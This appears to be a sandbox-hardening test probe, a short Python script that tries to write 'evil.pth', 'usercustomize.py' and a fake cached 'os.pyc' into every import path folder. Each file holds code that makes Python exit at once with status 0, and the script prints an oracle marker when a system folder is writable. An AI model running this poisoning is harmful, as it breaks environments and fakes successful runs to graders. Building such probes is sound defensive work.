# tries: poison Python's caches and start-up files
# place: first
# works: changed
# stock: unsafe
import os, sys, site
for folder in sys.path + [site.getusersitepackages(), os.path.dirname(os.__file__), "@COURSE@/source/ps1"]:
    for name in ("evil.pth", "usercustomize.py", "__pycache__/os.pyc"):
        try:
            open(os.path.join(folder or ".", name), "w").write("import os; os._exit(0)")
            if folder.startswith(("/usr", sys.prefix)): print("ORACLE" + "_7F3A wrote", folder)
        except OSError: pass
